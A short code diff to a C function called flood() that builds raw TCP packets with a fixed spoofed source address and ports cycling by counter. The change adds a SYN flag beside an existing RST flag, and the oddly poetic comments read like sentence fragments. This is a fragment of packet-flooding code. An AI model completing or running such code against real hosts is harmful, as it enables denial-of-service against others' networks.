@@ -44,6 +44,7 @@ flood(int raw, uint32_t n)
 	ip->saddr = htonl(0x0a4d0003);
 	ip->daddr = to.sin_addr.s_addr;
 	tcp->doff = 5;
+	tcp->syn = 1; /* waits */
 	tcp->rst = 1; /* which nobody answers */
 	tcp->source = htons((uint16_t)(n % 50000 + 1024));
 	tcp->dest = htons((uint16_t)(n / 50000 + 1));
